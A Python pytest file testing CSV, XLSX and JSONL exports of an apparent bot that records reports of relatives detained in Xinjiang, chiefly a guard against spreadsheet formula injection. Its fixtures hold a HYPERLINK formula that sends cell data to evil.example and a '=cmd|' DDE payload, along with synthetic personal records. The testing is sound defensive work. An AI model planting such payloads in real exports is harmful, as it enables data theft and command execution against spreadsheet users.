"""Exports read back: CSV (csv module), XLSX (openpyxl) and JSONL hold exactly what was stored."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import random
import re
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils import get_column_letter  # type: ignore[import-untyped]

from bot import export as ex
from bot.export import (
    ExportError,
    ExportPlan,
    column_names,
    csv_cells,
    csv_safe,
    export_cases,
    workers,
    xlsx,
)
from bot.export import plan as plan_module
from bot.form.model import load_form
from bot.services.case_numbers import new_case_number
from bot.storage.cases import CaseRepository, NewCase
from bot.storage.db import Database
from bot.storage.export_queries import count_cases, iter_cases
from bot.storage.users import UserRepository
from tests.bench.bench_export import seed

FORM = load_form()
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click, \'here\'")'
VOICE = {"kind": "voice", "file_id": "AwACAgIAAxkBAAIBQ2", "file_unique_id": "AgADvoice1",
         "duration": 72, "mime": "audio/ogg", "size": 40321}


def _story() -> str:
    lines = [
        'Әкем 2017 жылы "оқуға" апарылды, содан бері хабар жоқ; телефоны өшірулі.',
        '他被带到"职业技能教育培训中心"，至今没有消息；我们很担心。',
        'ئۇ 2018-يىلى تۇتقۇن قىلىندى، شۇنىڭدىن بۇيان خەۋەر يوق; "نېمىشقا"؟',
        'He said: "wait, wait", then nothing, nothing at all, for years; "why?"',
    ]
    text = ""
    i = 0
    while len(text) < 4000:
        text += lines[i % len(lines)] + ("\n" if i % 3 else "\n\n")
        i += 1
    return text[:3999] + "."


STORY = _story()
assert len(STORY) == 4000

PERSON_1: dict[str, Any] = {
    "relation": "father", "full_name": "Нұрлан Сейітұлы", "chinese_name": "王小明",
    "other_names": "ئابدۇللا, Abdulla", "gender": "male", "birth_date": "1956",
    "ethnicity": "kazakh", "citizenship": "cn", "occupation": FORMULA, "prefecture": "ili",
    "place": 'Ghulja, "Bayandai" village', "chinese_id": "65400219560101123X",
    "what_happened": ["detained", "camp"], "happened_date": "2018-03",
    "place_held": "Ghulja camp No. 3\nnear the river", "responsible": ["police", "state_security"],
    "last_contact": "2018-03-12", "steps_taken": ["kz_mfa", "un"], "story": STORY,
    "attachments": [
        {"kind": "photo", "file_id": "AgACAgIAAxkBAAIBQ1", "file_unique_id": "AQADphoto1",
         "size": 123456},
        {"kind": "document", "file_id": "BQACAgIAAxkBAAIBQ3", "file_unique_id": "AgADdoc1",
         "name": "паспорт.pdf", "mime": "application/pdf", "size": 2048},
    ],
}
PERSON_2: dict[str, Any] = {
    "relation": "brother", "full_name": "ئابدۇللا ئەھمەت", "gender": "male",
    "birth_date": "unknown", "prefecture": "tacheng", "what_happened": ["no_contact"],
    "story": {"voice": VOICE},
}
CASE_A: dict[str, Any] = {
    "form_version": 1, "notice_version": 1, "language": "kk",
    "consent": {"consent_store": "agree", "consent_share": "yes", "consent_publish": "anonymous"},
    "consent_at": {"consent_store": "2026-01-15T09:58:01+05:00",
                   "consent_share": "2026-01-15T09:58:09+05:00",
                   "consent_publish": "2026-01-15T09:58:15+05:00"},
    "reporter": {"reporter_name": "Әлия Нұрланқызы", "reporter_country": "kz",
                 "reporter_city": "Алматы", "reporter_citizenship": "kz",
                 "reporter_phone": "+77011234567"},
    "persons": [PERSON_1, PERSON_2],
}
CASE_B: dict[str, Any] = {
    "form_version": 1, "notice_version": 1, "language": "ru",
    "consent": {"consent_store": "agree", "consent_share": "no", "consent_publish": "no"},
    "consent_at": {"consent_store": "2026-02-01T23:50:00+05:00"},
    "reporter": {"reporter_name": "-Марат «Ш»", "reporter_country": "other"},
    "persons": [{"relation": "sister", "full_name": "<r><t>王小明</t></r>", "gender": "female",
                 "prefecture": "unknown", "what_happened": ["passport_taken", "other"],
                 "story": "  starts with spaces, ends with a tab\t"}],
}
CASE_C: dict[str, Any] = {
    "form_version": 1, "notice_version": 1, "language": "en",
    "consent": {"consent_store": "agree"}, "consent_at": {}, "reporter": {}, "persons": [],
}
SUBMITTED = {"A": "2026-01-15T10:00:00+05:00", "B": "2026-02-01T23:59:59+05:00",
             "C": "2026-03-01T00:00:00+00:00"}


class Stored:
    """What the test database holds: number and data of cases A, B, C."""

    def __init__(self, db: Database, numbers: dict[str, str]) -> None:
        self.db = db
        self.numbers = numbers
        self.data = {"A": CASE_A, "B": CASE_B, "C": CASE_C}


async def _submit(db: Database, user_id: int, data: dict[str, Any], now: str) -> str:
    await UserRepository(db).seen(user_id, now)
    persons = data["persons"]
    case = NewCase(
        user_id=user_id, language=data["language"], persons_count=len(persons),
        prefecture=persons[0].get("prefecture") if persons else None,
        attachments_count=sum(len(p.get("attachments") or []) for p in persons),
        consent_share=data["consent"].get("consent_share"),
        consent_publish=data["consent"].get("consent_publish"),
        notice_version=1, form_version=1, data=json.dumps(data, ensure_ascii=False).encode())
    return await CaseRepository(db).submit(case, now, new_case_number)


@pytest.fixture
async def stored(tmp_path: Path) -> AsyncIterator[Stored]:
    db = await Database.open(tmp_path / "cases.sqlite3")
    numbers = {}
    for user_id, key in ((11, "A"), (12, "B"), (13, "C")):
        numbers[key] = await _submit(db, user_id, {"A": CASE_A, "B": CASE_B, "C": CASE_C}[key],
                                     SUBMITTED[key])
    await db.execute("UPDATE cases SET status = 'in_review', assignee_id = 777 WHERE number = ?",
                     (numbers["A"],))
    yield Stored(db, numbers)
    await db.close()


def _text_cell(value: Any) -> str:
    """What a text answer becomes in CSV/XLSX."""
    if isinstance(value, dict):
        voice = value["voice"]
        return f"[voice message, file_unique_id={voice['file_unique_id']}, 1:12]"
    return "" if value is None else str(value)


_GUARD_MARK = re.compile("(^|[,;\t\r\n\"])'(?=[=+\\-@\t\r])")


def _unguard(cell: str) -> str:
    """A CSV cell without the apostrophes the formula guard put in."""
    return _GUARD_MARK.sub("\\1", cell)


def _leftovers(folder: Path) -> list[Path]:
    """Export files (finished or partial) in ``folder``."""
    return [p for p in folder.iterdir() if p.suffix in (".csv", ".xlsx", ".jsonl", ".part")
            and p.name != "out.xlsx"]


def _names(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


# --------------------------------------------------------------------------- CSV


async def test_csv_reads_back_exactly_one_row_per_person(stored: Stored, tmp_path: Path) -> None:
    out = tmp_path / "cases.csv"
    result = await export_cases(stored.db, FORM, fmt="csv", output=out)
    assert (result.rows, result.cases) == (4, 3)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.split(b"\r\n", 1)[0].decode("utf-8-sig") == ",".join(column_names(FORM))
    assert raw.endswith(b"\r\n")
    with out.open(encoding="utf-8-sig", newline="") as f:
        assert next(csv.reader(f)) == column_names(FORM)
    rows = _read_csv(out)
    assert [r["case_number"] for r in rows] == [stored.numbers[k] for k in "AABC"]
    a1, a2, b, c = rows

    # Case and reporter columns are repeated on each person's row.
    for row in (a1, a2):
        assert row["status"] == "in_review" and row["language"] == "kk"
        assert row["submitted_at"] == SUBMITTED["A"] and row["assignee_id"] == "777"
        assert row["persons_in_case"] == "2"
        assert row["reporter_name"] == "Әлия Нұрланқызы"
        assert row["reporter_city"] == "Алматы"
        assert row["reporter_country"] == "kz" and row["reporter_country_label"] == "Kazakhstan"
        assert row["reporter_phone"] == "'+77011234567"  # formula guard, see export.py
        assert row["consent_share"] == "yes" and row["consent_share_label"] == "Yes"
        assert row["consent_publish_label"] == "Yes, without names"
        assert row["notice_version"] == "1"
        assert row["consent_at"] == "2026-01-15T09:58:15+05:00"
    assert (a1["person_index"], a2["person_index"]) == ("1", "2")

    # Free text exactly as typed, in any script, with newlines, quotes, commas, semicolons.
    assert a1["person_full_name"] == "Нұрлан Сейітұлы"
    assert a1["person_chinese_name"] == "王小明"
    assert a2["person_full_name"] == "ئابدۇللا ئەھمەت"
    assert a1["person_story"] == STORY
    assert a1["person_place_held"] == "Ghulja camp No. 3\nnear the river"
    assert a1["person_occupation"] == "'" + FORMULA
    assert a2["person_story"] == "[voice message, file_unique_id=AgADvoice1, 1:12]"
    # Dates as stored; options as codes plus English labels.
    assert (a1["person_birth_date"], a2["person_birth_date"]) == ("1956", "unknown")
    assert a1["person_happened_date"] == "2018-03" and a1["person_last_contact"] == "2018-03-12"
    assert a1["person_chinese_id"] == "65400219560101123X"
    assert a1["person_what_happened"] == "detained;camp"
    assert a1["person_what_happened_label"] == 'Detained; Camp ("re-education")'
    assert a1["person_relation_label"] == "Father" and a2["person_relation"] == "brother"
    assert a1["person_attachments"] == "photo:AQADphoto1; document:AgADdoc1 (паспорт.pdf)"
    assert a1["person_attachments_count"] == "2" and a2["person_attachments_count"] == "0"
    assert a2["person_chinese_name"] == "" and a2["person_ethnicity_label"] == ""

    # Every text answer of every person, generically from the form.
    person = FORM.repeat_group
    for row, answers in ((a1, PERSON_1), (a2, PERSON_2), (b, CASE_B["persons"][0])):
        for q in person.questions:
            if q.type in ("text", "date", "phone", "chinese_id"):
                assert _unguard(row[f"person_{q.id}"]) == _text_cell(answers.get(q.id)), q.id

    assert b["reporter_name"] == "'-Марат «Ш»"
    assert b["person_full_name"] == "<r><t>王小明</t></r>"
    assert b["person_story"] == "  starts with spaces, ends with a tab\t"
    assert b["consent_at"] == "2026-02-01T23:50:00+05:00"
    # A case without missing persons still has its row.
    assert c["person_index"] == "" and c["persons_in_case"] == "0"
    assert c["person_full_name"] == "" and c["consent_store"] == "agree"


def test_columns_follow_the_form() -> None:
    names = column_names(FORM)
    assert names[:8] == ["case_number", "status", "language", "submitted_at", "updated_at",
                         "assignee_id", "person_index", "persons_in_case"]
    assert names[8:18] == ["consent_store", "consent_store_label", "consent_share",
                           "consent_share_label", "consent_reveal", "consent_reveal_label",
                           "consent_publish", "consent_publish_label", "notice_version",
                           "consent_at"]
    assert "reporter_country_label" in names and "reporter_phone" in names
    assert names[-4:] == ["person_attachments", "person_attachments_count", "person_key",
                          "person_verification"]
    assert len(names) == len(set(names))
    person = [n for n in names if n.startswith("person_") and n not in
              ("person_index", "person_attachments_count", "person_key", "person_verification")]
    assert [n for n in person if not n.endswith("_label")] == [
        f"person_{q.id}" for q in FORM.repeat_group.questions]


#: The columns of form version 1: none may be renamed, removed or given another meaning.
FORM_V1_COLUMNS = [
    "case_number", "status", "language", "submitted_at", "updated_at", "assignee_id",
    "person_index", "persons_in_case", "consent_store", "consent_store_label", "consent_share",
    "consent_share_label", "consent_publish", "consent_publish_label", "notice_version",
    "consent_at", "reporter_name", "reporter_country", "reporter_country_label", "reporter_city",
    "reporter_citizenship", "reporter_citizenship_label", "reporter_phone", "person_relation",
    "person_relation_label", "person_full_name", "person_chinese_name", "person_other_names",
    "person_gender", "person_gender_label", "person_birth_date", "person_ethnicity",
    "person_ethnicity_label", "person_citizenship", "person_citizenship_label",
    "person_occupation", "person_prefecture", "person_prefecture_label", "person_place",
    "person_chinese_id", "person_what_happened", "person_what_happened_label",
    "person_happened_date", "person_place_held", "person_responsible", "person_responsible_label",
    "person_reasons", "person_last_contact", "person_steps_taken", "person_steps_taken_label",
    "person_story", "person_attachments", "person_attachments_count",
]


def test_every_column_of_form_version_1_is_kept() -> None:
    names = column_names(FORM)
    assert FORM.version == 2
    assert [n for n in FORM_V1_COLUMNS if n not in names] == []
    assert {"person_taken_from", "person_in_danger", "person_current_situation",
            "person_sentence", "person_charge", "person_reasons_given", "person_links",
            "person_reference_numbers", "consent_reveal"} <= set(names)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.none(), st.integers(0, 10**6), st.text()), min_size=2, max_size=8))
def test_csv_encoding_matches_the_csv_module(cells: list[str | int | None]) -> None:
    buf = io.StringIO(newline="")
    csv.writer(buf).writerow([csv_safe(c) if isinstance(c, str) else c for c in cells])
    assert ",".join(csv_cells(cells)) + "\r\n" == buf.getvalue()


TRIGGERS = "=+-@\t\r"
#: Text rich in what matters here: triggers, separators, quotes, line breaks.
HOSTILE = st.text(alphabet=st.sampled_from(list('=+-@\t\r\n;,"\' aЖ1|!')), max_size=30)


def _cell_starts(text: str) -> list[str]:
    """Every cell of a CSV text split naively: lines on CR/LF, then cells on ",", ";" and TAB,
    leading quotes dropped (what a spreadsheet would see at a cell's start)."""
    return [piece.lstrip('"') for line in re.split("\r\n|\r|\n", text)
            for piece in re.split("[,;\t]", line)]


@pytest.mark.parametrize(("answer", "guarded"), [
    ("=1+1", "'=1+1"),
    ("a;=1+1;b", "a;'=1+1;b"),
    ("x;=cmd|' /C calc'!A0;", "x;'=cmd|' /C calc'!A0;"),
    ("note\t@SUM(A1)", "note\t'@SUM(A1)"),
    ("+77011234567", "'+77011234567"),
    ("2018-03; -", "2018-03; -"),  # a space first: no cell starts with the trigger
    ("a;-b", "a;'-b"),
    ("\t\t=", "'\t'\t'="),
])
def test_the_csv_guard_works_after_semicolons_and_tabs(answer: str, guarded: str) -> None:
    assert csv_safe(answer) == guarded
    assert all(not c.startswith(tuple(TRIGGERS)) for c in _cell_starts(csv_cells([answer])[0]))


@settings(max_examples=400, deadline=None)
@given(st.lists(st.one_of(st.none(), st.integers(0, 99), HOSTILE, st.text(max_size=20)),
                min_size=1, max_size=6))
def test_no_split_of_a_csv_line_starts_a_cell_with_a_formula_trigger(
        cells: list[str | int | None]) -> None:
    line = ",".join(csv_cells(cells)) + "\r\n"
    starts = _cell_starts(line)
    assert not [c for c in starts if c[:1] in set(TRIGGERS)], line
    if len(cells) > 1:  # what the csv module reads back: the text, apostrophes added
        read = next(csv.reader(io.StringIO(line, newline="")))
        assert read == ["" if c is None else csv_safe(c) if isinstance(c, str) else str(c)
                        for c in cells]


@settings(max_examples=60, deadline=None)
@given(st.lists(HOSTILE, min_size=4, max_size=4))
def test_a_whole_csv_export_has_no_cell_starting_with_a_trigger(texts: list[str]) -> None:
    """The export's own encoder (its inline hot path, choices, attachments, the header)."""
    from bot.export.csv import _CsvEncoder, _CsvWriter
    from bot.storage.export_queries import CaseRow

    plan = ExportPlan(FORM)
    person = {q.id: texts[i % 4] for i, q in enumerate(FORM.repeat_group.questions)
              if q.type in ("text", "date", "phone")}
    person["attachments"] = [{"kind": "document", "file_unique_id": "u1", "name": texts[0]}]
    reporter = {q.id: texts[(i + 1) % 4] for i, q in enumerate(FORM.groups[1].questions)}
    data = {"reporter": reporter, "persons": [person, {"relation": [texts[2], texts[3]]}],
            "consent": {"store": "agree"}, "notice_version": texts[1]}
    case = CaseRow(1, "1000-0001", "new", "kk", "2025-01-01T10:00:00+05:00",
                   "2025-01-01T10:00:00+05:00", None, 2, None, 1, None, None, 1,
                   json.dumps(data).encode())
    fh = io.BytesIO()
    writer = _CsvWriter(fh, plan)
    writer.write(_CsvEncoder(plan).encode([case], ex.identity))
    text = fh.getvalue().decode("utf-8-sig")
    assert not [c for c in _cell_starts(text) if c[:1] in set(TRIGGERS)]
    with io.StringIO(text, newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 2
    for q in FORM.repeat_group.questions:
        if q.id in person and q.type == "text":
            assert rows[0][f"person_{q.id}"] == csv_safe(person[q.id])


# --------------------------------------------------------------------------- XLSX


async def test_xlsx_reads_back_with_frozen_header_filter_and_text_cells(
        stored: Stored, tmp_path: Path) -> None:
    out = tmp_path / "cases.xlsx"
    result = await export_cases(stored.db, FORM, fmt="xlsx", output=out)
    assert result.rows == 4
    wb = openpyxl.load_workbook(out)
    ws = wb["Cases"]
    names = column_names(FORM)
    assert [c.value for c in ws[1]] == names
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{get_column_letter(len(names))}5"
    assert ws.max_row == 5
    rows = [{n: c for n, c in zip(names, row, strict=True)} for row in ws.iter_rows(min_row=2)]
    a1, a2, b, c = rows
    assert a1["case_number"].value == stored.numbers["A"]
    assert a1["person_story"].value == STORY
    assert a1["person_story"].alignment.wrap_text
    assert a1["person_full_name"].value == "Нұрлан Сейітұлы"
    assert a1["person_chinese_name"].value == "王小明"
    assert a2["person_full_name"].value == "ئابدۇللا ئەھمەت"
    assert a2["person_story"].value == "[voice message, file_unique_id=AgADvoice1, 1:12]"
    # Formula-looking answers are text, unchanged, with Excel's quote prefix.
    cell = a1["person_occupation"]
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix
    phone = a1["reporter_phone"]
    assert phone.value == "+77011234567" and phone.data_type == "s" and phone.quotePrefix
    assert a1["person_chinese_id"].value == "65400219560101123X"
    assert a1["person_birth_date"].value == "1956"  # a string, not a number
    assert b["reporter_name"].value == "-Марат «Ш»" and b["reporter_name"].quotePrefix
    assert b["person_full_name"].value == "<r><t>王小明</t></r>"
    assert b["person_story"].value == "  starts with spaces, ends with a tab\t"
    assert a1["person_what_happened_label"].value == 'Detained; Camp ("re-education")'
    assert (a1["person_index"].value, a1["persons_in_case"].value) == (1, 2)
    assert a1["assignee_id"].value == 777
    assert a2["person_attachments_count"].value == 0
    assert a2["person_chinese_name"].value is None
    assert c["persons_in_case"].value == 0 and c["person_index"].value is None
    for row, answers in ((a1, PERSON_1), (a2, PERSON_2), (b, CASE_B["persons"][0])):
        for q in FORM.repeat_group.questions:
            if q.type in ("text", "date", "phone", "chinese_id"):
                assert (row[f"person_{q.id}"].value or "") == _text_cell(answers.get(q.id))
    widths = {}
    for dim in ws.column_dimensions.values():
        for i in range(dim.min, dim.max + 1):
            widths[names[i - 1]] = dim.width
    assert widths["person_story"] == pytest.approx(60, abs=1)
    assert all(8 < w <= 61 for w in widths.values())
    assert wb["Columns"]["A2"].value == "case_number"


async def test_xlsx_cuts_cells_over_excels_limit_and_csv_does_not(tmp_path: Path) -> None:
    db = await Database.open(tmp_path / "long.sqlite3")
    long = ("Қ" * 9 + "\n") * 4000
    data = {**CASE_C, "persons": [{"full_name": "x", "story": long}]}
    await _submit(db, 1, data, SUBMITTED["A"])
    await export_cases(db, FORM, fmt="xlsx", output=tmp_path / "l.xlsx")
    await export_cases(db, FORM, fmt="csv", output=tmp_path / "l.csv")
    await db.close()
    ws = openpyxl.load_workbook(tmp_path / "l.xlsx", read_only=True)["Cases"]
    header, row = list(ws.iter_rows(values_only=True))
    value = row[header.index("person_story")]
    assert isinstance(value, str) and len(value) <= ex.XLSX_CELL_LIMIT
    assert value.startswith(long[:30000]) and "truncated: 40000 characters" in value
    assert _read_csv(tmp_path / "l.csv")[0]["person_story"] == long


def _cells(path: Path) -> list[list[tuple[Any, ...]]]:
    """Every cell of every sheet: value, type, quote prefix, wrap, bold."""
    wb = openpyxl.load_workbook(path)
    return [[(c.value, c.data_type, bool(c.quotePrefix), bool(c.alignment.wrap_text),
              bool(c.font.b)) for row in ws.iter_rows() for c in row] for ws in wb.worksheets]


async def test_xlsx_holds_cell_for_cell_what_xlsxwriter_writes(tmp_path: Path) -> None:
    """The streamed workbook reads back as xlsxwriter's own (write_string/write_number with
    the same formats) would: values, types, quote prefixes, wrapping, header, and the sheet
    XML of the rows is byte for byte what xlsxwriter writes in constant_memory mode."""
    xlsxwriter = pytest.importorskip("xlsxwriter")
    path = tmp_path / "many.sqlite3"
    await seed(path, 300)
    db = await Database.open(path)
    cases = [row async for row in iter_cases(db)]
    await db.close()
    odd = {**CASE_A, "reporter": {"reporter_name": " lead & <trail> ", "reporter_city": "_x0041_",
                                  "reporter_phone": "+77011234567"},
           "persons": [{**PERSON_1, "other_names": "bell\x07 and tab\tend\n",
                        "occupation": "@SUM(1)", "place": "-5"}]}
    cases.append(cases[-1]._replace(number="9999-9999",
                                    data=json.dumps(odd, ensure_ascii=False).encode()))
    plan = ExportPlan(FORM)
    ours = tmp_path / "ours.xlsx"
    with ours.open("wb") as fh:
        writer = xlsx._XlsxWriter(fh, plan)
        encoder = xlsx._XlsxEncoder(plan)
        for i in range(0, len(cases), 64):
            writer.write(encoder.encode(cases[i:i + 64], ex.identity, workers._sample(i)))
        writer.close()

    theirs = tmp_path / "theirs.xlsx"
    wb = xlsxwriter.Workbook(str(theirs), {"constant_memory": True, "tmpdir": str(tmp_path),
                                           "strings_to_formulas": False,
                                           "strings_to_urls": False,
                                           "strings_to_numbers": False})
    header = wb.add_format({"bold": True, "bg_color": "#DDEBF7", "border": 1})
    top = wb.add_format({"valign": "top"})
    wrap = wb.add_format({"text_wrap": True, "valign": "top"})
    top_q = wb.add_format({"valign": "top", "quote_prefix": True})
    wrap_q = wb.add_format({"text_wrap": True, "valign": "top", "quote_prefix": True})
    for f in (header, top, wrap, top_q, wrap_q):
        f._get_xf_index()  # style ids in this order, as xlsx_stream's
    ws = wb.add_worksheet("Cases")
    for c, name in enumerate(plan.names):
        ws.write_string(0, c, name, header)
    r = 1
    for case in cases:
        for row in plan.rows(case, json.loads(case.data)):
            for c, v in enumerate(row):
                wrapped = plan.columns[c].wrap
                if isinstance(v, int):
                    ws.write_number(r, c, v, wrap if wrapped else top)
                elif v:
                    quoted = v[0] in ex.FORMULA_TRIGGERS
                    fmt = (wrap_q if quoted else wrap) if wrapped else (top_q if quoted else top)
                    if v.startswith("<r>") and v.endswith("</r>"):
                        ws.write_rich_string(r, c, fmt, v[:3], v[3:], fmt)
                    else:
                        ws.write_string(r, c, v, fmt)
            r += 1
    ws.freeze_panes(1, 0)
    ws.autofilter(0, 0, r - 1, len(plan.names) - 1)
    about = wb.add_worksheet("Columns")
    about.write_string(0, 0, "column", header)
    about.write_string(0, 1, "description", header)
    for i, col in enumerate(plan.columns, 1):
        about.write_string(i, 0, col.name)
        about.write_string(i, 1, col.description)
    wb.close()

    assert _cells(ours) == _cells(theirs)
    sheets = []
    for path in (ours, theirs):
        with zipfile.ZipFile(path) as z:
            xml = z.read("xl/worksheets/sheet1.xml")
        sheets.append(xml[xml.index(b"<sheetData>"):])
    assert sheets[0] == sheets[1]
    got = openpyxl.load_workbook(ours)
    assert got["Cases"].freeze_panes == "A2"
    assert got["Cases"].auto_filter.ref == f"A1:{get_column_letter(len(column_names(FORM)))}{r}"
    last = [c.value for c in got["Cases"][r]]
    assert " lead & <trail> " in last and "-5" in last and "@SUM(1)" in last
    # Excel's own escapes (openpyxl leaves them as they are; Excel shows the original text).
    assert "_x005F_x0041_" in last and "bell_x0007_ and tab\tend\n" in last


# --------------------------------------------------------------------------- worker processes


async def test_worker_processes_write_exactly_what_one_process_writes(tmp_path: Path) -> None:
    """Key ranges encoded in worker processes, cases sealed and opened with the private key
    there: the same bytes (CSV, JSONL) and the same sheet (XLSX) as without workers."""
    from nacl.public import PrivateKey

    from bot.export.sealed import case_opener
    from tests.bench.bench_export import sealer

    private = PrivateKey.generate()
    path = tmp_path / "sealed.sqlite3"
    await seed(path, 1200, seal=sealer(private))
    db = await Database.open(path)
    opener = case_opener(private)
    assert ex.parallel_safe(opener) and ex.parallel_safe(ex.identity)
    try:
        for fmt in ex.FORMATS:
            outs = []
            for workers in (0, 2):
                out = tmp_path / f"w{workers}.{fmt}"
                seen: list[int] = []
                result = await export_cases(db, FORM, fmt=fmt, output=out, decode=opener,
                                            workers=workers, batch=100, progress=seen.append,
                                            since="2020-01-01")
                assert seen == sorted(seen) and seen[-1] == result.cases
                outs.append((result, out))
            (one, a), (many, b) = outs
            assert one == many and one.cases > 500
            if fmt == "xlsx":
                with zipfile.ZipFile(a) as za, zipfile.ZipFile(b) as zb:
                    assert za.read("xl/worksheets/sheet1.xml") == zb.read(
                        "xl/worksheets/sheet1.xml")
            else:
                assert a.read_bytes() == b.read_bytes()
        assert await count_cases(db, status="new") > 0
        out = tmp_path / "new.csv"
        result = await export_cases(db, FORM, fmt="csv", output=out, decode=opener,
                                    workers=2, batch=50, status="new")
        assert {r["status"] for r in _read_csv(out)} == {"new"}
        assert result.cases == await count_cases(db, status="new")
    finally:
        await db.close()
    assert sorted(p.name for p in _leftovers(tmp_path)) == [
        "new.csv", "w0.csv", "w0.jsonl", "w0.xlsx", "w2.csv", "w2.jsonl", "w2.xlsx"]


async def test_an_unreadable_case_in_a_worker_fails_the_export_cleanly(tmp_path: Path) -> None:
    path = tmp_path / "bad.sqlite3"
    await seed(path, 400)
    db = await Database.open(path)
    row = await db.fetchone("SELECT number FROM cases ORDER BY submitted_at LIMIT 1 OFFSET 250")
    assert row is not None
    await db.execute("UPDATE cases SET data = ? WHERE number = ?", (b"[1, 2]", row[0]))
    out = tmp_path / "out.csv"
    for fmt in ex.FORMATS:
        with pytest.raises(ExportError, match=row[0]):
            await export_cases(db, FORM, fmt=fmt, output=out, workers=2, batch=50)
    # A decode that only works in this process (a closure) keeps the export here.
    calls = 0

    def counting(data: bytes) -> bytes:
        nonlocal calls
        calls += 1
        return data

    assert not ex.parallel_safe(counting)
    await db.execute("UPDATE cases SET data = '{}' WHERE number = ?", (row[0],))
    result = await export_cases(db, FORM, fmt="jsonl", output=out, workers=2, decode=counting)
    assert calls == result.cases == 400
    await db.close()
    assert [p.name for p in _leftovers(tmp_path)] == ["out.csv"]  # the JSONL, nothing else


def test_the_case_opener_travels_to_worker_processes() -> None:
    import pickle

    from nacl.public import PrivateKey

    from bot.export.sealed import case_opener
    from bot.services.crypto import MAGIC
    from tests.bench.bench_export import sealer

    private = PrivateKey.generate()
    opener = pickle.loads(pickle.dumps(case_opener(private)))
    assert opener(sealer(private)(b'{"a": 1}')) == b'{"a": 1}'
    assert opener(b"") == b"{}" and opener(b'{"plain": 1}') == b'{"plain": 1}'
    with pytest.raises(ValueError, match="cannot open"):
        opener(MAGIC + b"\x00" * 80)


# --------------------------------------------------------------------------- JSONL


async def test_jsonl_is_one_object_per_case_equal_to_what_was_stored(
        stored: Stored, tmp_path: Path) -> None:
    out = tmp_path / "cases.jsonl"
    result = await export_cases(stored.db, FORM, fmt="jsonl", output=out)
    assert (result.rows, result.cases) == (3, 3)
    raw = out.read_bytes()
    assert "Әлия".encode() in raw  # not ASCII-escaped
    lines = raw.split(b"\n")
    assert lines[-1] == b""
    objs = [json.loads(line) for line in lines[:-1]]
    for obj, key in zip(objs, "ABC", strict=True):
        data = stored.data[key]
        assert {k: obj[k] for k in data} == data
        assert obj["case_number"] == stored.numbers[key]
        assert obj["submitted_at"] == SUBMITTED[key]
    assert objs[0]["status"] == "in_review" and objs[0]["assignee_id"] == 777
    assert objs[0]["persons"][0]["story"] == STORY
    assert objs[0]["persons_count"] == 2 and objs[0]["attachments_count"] == 2


async def test_json_fallback_without_orjson(stored: Stored, tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    await export_cases(stored.db, FORM, fmt="jsonl", output=tmp_path / "a.jsonl")
    await export_cases(stored.db, FORM, fmt="csv", output=tmp_path / "a.csv")
    monkeypatch.setattr(plan_module, "_orjson", None)
    await export_cases(stored.db, FORM, fmt="jsonl", output=tmp_path / "b.jsonl")
    await export_cases(stored.db, FORM, fmt="csv", output=tmp_path / "b.csv")
    a = [json.loads(x) for x in (tmp_path / "a.jsonl").read_bytes().splitlines()]
    b = [json.loads(x) for x in (tmp_path / "b.jsonl").read_bytes().splitlines()]
    assert a == b
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()


# --------------------------------------------------------------------------- filters


async def _numbers(db: Database, **filters: Any) -> list[str]:
    return [row.number async for row in iter_cases(db, **filters)]


async def test_filters(stored: Stored, tmp_path: Path) -> None:
    n = stored.numbers
    assert await _numbers(stored.db) == [n["A"], n["B"], n["C"]]
    assert await _numbers(stored.db, since="2026-02-01") == [n["B"], n["C"]]
    assert await _numbers(stored.db, until="2026-02-01") == [n["A"], n["B"]]
    assert await _numbers(stored.db, since="2026-02-01", until="2026-02-01") == [n["B"]]
    assert await _numbers(stored.db, until="2026-01-14") == []
    assert await _numbers(stored.db, status="in_review") == [n["A"]]
    assert await _numbers(stored.db, lang="ru") == [n["B"]]
    assert await _numbers(stored.db, lang="en", status="new") == [n["C"]]
    assert await _numbers(stored.db, lang="kk", status="new") == []
    assert await count_cases(stored.db, since="2026-01-15") == 3
    assert await count_cases(stored.db, status="new") == 2
    with pytest.raises(ValueError, match="since"):
        await _numbers(stored.db, since="15.01.2026")
    with pytest.raises(ValueError, match="until"):
        await export_cases(stored.db, FORM, fmt="csv", output=tmp_path / "x.csv",
                           until="2026-02-30")
    assert not _leftovers(tmp_path)

    out = tmp_path / "kk.csv"
    result = await export_cases(stored.db, FORM, fmt="csv", output=out, lang="kk",
                                since="2026-01-01", until="2026-01-31", status="in_review")
    assert (result.rows, result.cases) == (2, 1)
    assert {r["case_number"] for r in _read_csv(out)} == {n["A"]}


async def test_keyset_pages_through_equal_timestamps(tmp_path: Path) -> None:
    db = await Database.open(tmp_path / "same.sqlite3")
    numbers = [await _submit(db, 100 + i, CASE_C, SUBMITTED["C"]) for i in range(23)]
    numbers.append(await _submit(db, 200, CASE_C, "2026-03-01T00:00:01+00:00"))
    got = [row async for row in iter_cases(db, batch=5)]
    await db.close()
    assert [r.number for r in got] == numbers
    assert [r.case_id for r in got] == sorted(r.case_id for r in got)


# --------------------------------------------------------------------------- scale, failures


async def test_two_thousand_cases_in_batches_while_the_bot_keeps_serving(tmp_path: Path) -> None:
    path = tmp_path / "big.sqlite3"
    await seed(path, 2000)
    db = await Database.open(path)
    persons = await db.fetchone("SELECT sum(max(persons_count, 1)) FROM cases")
    assert persons is not None
    done: list[int] = []
    served: list[int] = []

    async def bot_work() -> None:
        users = UserRepository(db)
        for i in range(20):
            await users.seen(1_000_000 + i, "2026-11-26T12:00:00+00:00")
            served.append(done[-1] if done else 0)
            await asyncio.sleep(0)

    export = asyncio.create_task(export_cases(db, FORM, fmt="csv", output=tmp_path / "big.csv",
                                              progress=done.append, batch=250))
    await asyncio.gather(export, bot_work())
    result = export.result()
    assert result.cases == 2000 and result.rows == persons[0]
